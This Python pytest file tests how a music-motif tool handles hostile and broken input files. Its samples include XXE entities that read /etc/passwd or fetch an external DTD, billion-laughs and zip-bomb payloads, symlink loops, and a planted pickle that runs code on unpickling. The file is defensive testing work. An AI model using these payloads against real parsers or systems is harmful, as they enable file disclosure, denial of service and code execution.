"""The hostile-input corpus of issue 21: an attacker's and an unlucky user's inputs.

Every case runs ``python -m motifgen`` as a real process (20 s bound) in a world of its
own (see tests/hostile.py) and checks the exit status, the one stderr line, that there
is no traceback, and that the whole world (output folder, project folder, home and
temporary folder) is byte for byte as before; cases that must work check that instead.
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.hostile import PROJECT, World

# -------------------------------------------------------------------------------------------
# motif files


XML_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" '
            '"http://www.musicxml.org/dtds/partwise.dtd">\n')
SCORE = """<score-partwise version="4.0">
  <part-list><score-part id="P1"><part-name>{name}</part-name></score-part></part-list>
  <part id="P1">
    <measure number="1">
      <attributes><divisions>2</divisions><time><beats>3</beats><beat-type>4</beat-type></time>
      </attributes>
      <note><pitch><step>D</step><octave>4</octave></pitch><duration>2</duration></note>
      <note><pitch><step>F</step><octave>4</octave></pitch><duration>1</duration></note>
      <note><pitch><step>E</step><octave>4</octave></pitch><duration>1</duration></note>
      <note><pitch><step>A</step><octave>4</octave></pitch><duration>2</duration></note>
    </measure>
  </part>
</score-partwise>
"""


def musicxml(name: str = "theme", head: str = XML_HEAD) -> bytes:
    return (head + SCORE.format(name=name)).encode("utf-8")


def mxl(document: bytes, name: str = "score.musicxml", container: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        if container:
            z.writestr("META-INF/container.xml",
                       '<?xml version="1.0"?><container><rootfiles>'
                       f'<rootfile full-path="{name}"/></rootfiles></container>')
        z.writestr(name, document)
    return buffer.getvalue()


def midi(ppq: int = 480, events: bytes | None = None, division: bytes | None = None) -> bytes:
    """A type-0 MIDI file with one track of `events` (default: two quarter notes)."""
    if events is None:
        events = (b"\x00\x90\x3e\x50" + b"\x83\x60\x80\x3e\x00"
                  + b"\x00\x90\x45\x50" + b"\x83\x60\x80\x45\x00")
    events += b"\x00\xff\x2f\x00"
    head = struct.pack(">4sLHH", b"MThd", 6, 0, 1) + (division or struct.pack(">H", ppq))
    return head + struct.pack(">4sL", b"MTrk", len(events)) + events


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def with_motif_file(world: World, name: str) -> Path:
    """The world's project with the hero's motif read from the file `name`."""
    text = PROJECT.replace('motif: "4/4 d4 a4 g8 f e4 f4. g8 a2"', f"motif: {{file: '{name}'}}")
    return world.write(text)


def test_a_musicxml_motif_reads(world):
    (world.proj / "theme.musicxml").write_bytes(musicxml())
    project = with_motif_file(world, "theme.musicxml")
    run = world.run("transform", project, "hero", "transpose=0")
    assert run.status == 0, run.err
    assert "before: D4 F4 E4 A4" in run.out


@pytest.mark.parametrize("container", [True, False], ids=["container", "no-container"])
def test_a_compressed_mxl_motif_reads(world, container):
    (world.proj / "theme.mxl").write_bytes(mxl(musicxml(), container=container))
    project = with_motif_file(world, "theme.mxl")
    run = world.run("transform", project, "hero", "transpose=0")
    assert run.status == 0, run.err
    assert "before: D4 F4 E4 A4" in run.out


HOSTILE_XML = {
    "xxe-file": ('<?xml version="1.0"?>\n<!DOCTYPE score-partwise [\n'
                 '  <!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "declares the entity 'xxe'"),
    "xxe-parameter": ('<?xml version="1.0"?>\n<!DOCTYPE score-partwise [\n'
                      '  <!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;]>\n',
                      "declares the entity 'dtd'"),
    "billion-laughs": ('<?xml version="1.0"?>\n<!DOCTYPE score-partwise [\n'
                       '  <!ENTITY a "aaaaaaaaaa">\n'
                       + "".join(f'  <!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n'
                                 for i in range(9))
                       + "]>\n", "declares the entity 'a'"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
def test_hostile_musicxml_is_refused(world, case):
    head, expect = HOSTILE_XML[case]
    name = "&xxe;" if case.startswith("xxe") else "&j;"
    (world.proj / "theme.musicxml").write_bytes(musicxml(name, head))
    project = with_motif_file(world, "theme.musicxml")
    world.refuses("compose", project, "-o", world.out, "-q", expect=expect)
    world.refuses("validate", project, expect="characters.hero.motif.file")


BROKEN_XML = {
    "not-xml": (b"MThd this is not XML", "not well-formed XML"),
    "truncated": (musicxml()[:300], "not well-formed XML"),
    "timewise": (b'<?xml version="1.0"?><score-timewise/>', "timewise"),
    "html": (b"<html><body>hello</body></html>", "root element is <html>"),
    "no-parts": (b"<score-partwise><part-list/></score-partwise>", "has no parts"),
    "no-divisions": (musicxml().replace(b"<divisions>2</divisions>", b""), "<divisions>"),
    "zero-divisions": (musicxml().replace(b"<divisions>2</divisions>",
                                          b"<divisions>0</divisions>"), "bad divisions"),
    "huge-duration": (musicxml().replace(b"<duration>2</duration>",
                                         b"<duration>" + b"9" * 5000 + b"</duration>", 1),
                      "bad note duration"),
    "bad-step": (musicxml().replace(b"<step>D</step>", b"<step>H</step>"), "bad pitch step"),
    "octave-99": (musicxml().replace(b"<octave>4</octave>", b"<octave>99</octave>", 1),
                  "outside MIDI"),
    "time-0-4": (musicxml().replace(b"<beats>3</beats>", b"<beats>0</beats>"),
                 "impossible time signature 0/4"),
    "time-4-3": (musicxml().replace(b"<beat-type>4</beat-type>", b"<beat-type>3</beat-type>"),
                 "impossible time signature 3/3"),
    "only-rests": (musicxml().replace(b"<pitch><step>D</step><octave>4</octave></pitch>",
                                      b"<rest/>").replace(
                       b"<pitch><step>F</step><octave>4</octave></pitch>", b"<rest/>").replace(
                       b"<pitch><step>E</step><octave>4</octave></pitch>", b"<rest/>").replace(
                       b"<pitch><step>A</step><octave>4</octave></pitch>", b"<rest/>"),
                   "has no notes"),
    "deeply-nested": (b"<score-partwise>" + b"<a>" * 100_000 + b"</a>" * 100_000
                      + b"</score-partwise>", "MusicXML"),
}


@pytest.mark.parametrize("case", sorted(BROKEN_XML))
def test_broken_musicxml_is_one_line(world, case):
    data, expect = BROKEN_XML[case]
    (world.proj / "theme.musicxml").write_bytes(data)
    project = with_motif_file(world, "theme.musicxml")
    world.refuses("validate", project, expect=expect)


def test_a_zip_bomb_is_refused(world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("score.musicxml", b"<" + b" " * 200_000_000)
    assert len(buffer.getvalue()) < 1_000_000
    (world.proj / "theme.mxl").write_bytes(buffer.getvalue())
    project = with_motif_file(world, "theme.mxl")
    world.refuses("validate", project, expect="unpacks to more than 16 MB")


def test_a_zip_bomb_that_lies_about_its_size_is_refused(world):
    """The member's header claims 100 bytes; reading stops at the bound all the same."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("score.musicxml", b" " * 20_000_000)
    data = bytearray(buffer.getvalue())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # uncompressed size
        at = data.find(signature)
        data[at + offset:at + offset + 4] = struct.pack("<L", 100)
    (world.proj / "theme.mxl").write_bytes(bytes(data))
    project = with_motif_file(world, "theme.mxl")
    world.refuses("validate", project, expect="theme.mxl")


def test_a_broken_mxl_is_one_line(world):
    (world.proj / "theme.mxl").write_bytes(b"PK\x03\x04 not really a zip")
    project = with_motif_file(world, "theme.mxl")
    world.refuses("validate", project, expect="not a readable .mxl")


def test_a_planted_music21_pickle_is_never_loaded(world):
    """music21's converter loads `<scratch>/m21-<version>-py<x.y>-<md5 of path>.p.gz` when
    it is newer than the file. Plant one whose unpickling creates a marker file: music21
    itself falls for it (the control), motifgen never does."""
    source = world.proj / "theme.musicxml"
    source.write_bytes(musicxml())
    project = with_motif_file(world, "theme.musicxml")
    marker = world.root / "pwned"
    plant = f"""
import os, pickle, zlib
from music21 import converter, environment
class Payload:
    def __reduce__(self):
        return (open, ({str(marker)!r}, "w"))
scratch = environment.Environment().getRootTempDir()
target = converter.PickleFilter({str(source)!r}).getPickleFp(scratch, zipType="gz")
target.write_bytes(zlib.compress(pickle.dumps(Payload())))
print(target)
"""
    done = subprocess.run([sys.executable, "-c", plant], env=world.env, capture_output=True,
                          text=True, timeout=60, check=True)
    planted = Path(done.stdout.strip())
    assert planted.is_relative_to(world.tmp) and planted.exists()
    os.utime(planted, (source.stat().st_mtime + 10,) * 2)

    for command in (["validate", project], ["compose", project, "-o", world.out, "-q",
                                            "--format", "mid,json,musicxml"]):
        run = world.run(*command)
        assert run.status == 0, run.err
        assert not marker.exists(), "motifgen loaded the planted pickle"
    control = subprocess.run(
        [sys.executable, "-c", f"from music21 import converter\ntry:\n"
         f"    converter.parse({str(source)!r})\nexcept Exception:\n    pass"],
        env=world.env, capture_output=True, timeout=60)
    assert control.returncode == 0
    assert marker.exists(), "the planted pickle should fool music21 itself (the control)"


@pytest.mark.parametrize("name", ["~/theme.musicxml", "$HOME/theme.musicxml",
                                  "${HOME}/theme.musicxml"])
def test_tilde_and_variables_are_never_expanded(world, name):
    (world.home / "theme.musicxml").write_bytes(musicxml())
    project = with_motif_file(world, name)
    world.refuses("validate", project, expect="does not exist")
    # a folder really named like that inside the project is read, literally
    literal = world.proj / name
    literal.parent.mkdir()
    literal.write_bytes(musicxml().replace(b"<step>D</step>", b"<step>C</step>"))
    run = world.run("transform", project, "hero", "transpose=0")
    assert run.status == 0, run.err
    assert "before: C4 F4 E4 A4" in run.out


def test_a_symlink_loop_is_one_line(world):
    (world.proj / "loop").symlink_to("loop")
    project = with_motif_file(world, "loop/theme.mid")
    world.refuses("validate", project, expect="characters.hero.motif.file")


def test_a_symlink_loop_as_the_file_itself_is_one_line(world):
    (world.proj / "a.mid").symlink_to("b.mid")
    (world.proj / "b.mid").symlink_to("a.mid")
    project = with_motif_file(world, "a.mid")
    world.refuses("validate", project, expect="characters.hero.motif.file")


@pytest.mark.parametrize("suffix, limit", [(".mid", "1 MB"), (".musicxml", "16 MB"),
                                           (".mxl", "16 MB")])
def test_a_huge_motif_file_is_refused_unread(world, suffix, limit):
    huge = world.proj / f"theme{suffix}"
    with huge.open("wb") as f:  # sparse: costs no disk
        f.truncate(40_000_000)
    project = with_motif_file(world, huge.name)
    world.refuses("validate", project, expect=f"larger than {limit}")


def test_a_fifo_as_motif_file_is_one_line(world):
    os.mkfifo(world.proj / "theme.mid")
    project = with_motif_file(world, "theme.mid")
    world.refuses("validate", project, expect="is not a regular file")


def test_a_folder_as_motif_file_is_one_line(world):
    (world.proj / "theme.mid").mkdir()
    project = with_motif_file(world, "theme.mid")
    world.refuses("validate", project, expect="is not a regular file")


def _notes(count: int) -> bytes:
    one = b"\x00\x90\x3e\x50\x10\x80\x3e\x00"
    return one * count


BROKEN_MIDI = {
    "zero-ticks-per-beat": (midi(ppq=0), "0 ticks per beat"),
    "smpte-division": (midi(division=b"\xe7\x28"), "SMPTE"),
    "truncated-header": (midi()[:10], "cannot read MIDI file"),
    "truncated-track": (midi()[:30], "cannot read MIDI file"),
    "huge-delta": (midi(events=b"\x00\x90\x3e\x50\xff\xff\xff\x7f\x80\x3e\x00"),
                   "a motif may last at most 256 beats"),
    "time-signature-0": (midi(events=b"\x00\xff\x58\x04\x00\x02\x18\x08" + _notes(2)),
                         "impossible time signature 0/4"),
    "time-signature-2**255": (midi(events=b"\x00\xff\x58\x04\x04\xff\x18\x08" + _notes(2)),
                              "impossible time signature 4/"),
    "100-thousand-notes": (midi(events=_notes(100_000)), "at most 256 notes"),
    "3-million-notes": (midi(events=_notes(3_000_000)), "larger than 1 MB"),
}


@pytest.mark.parametrize("case", sorted(BROKEN_MIDI))
def test_broken_midi_is_one_line(world, case):
    data, expect = BROKEN_MIDI[case]
    (world.proj / "theme.mid").write_bytes(data)
    project = with_motif_file(world, "theme.mid")
    world.refuses("validate", project, expect=expect)
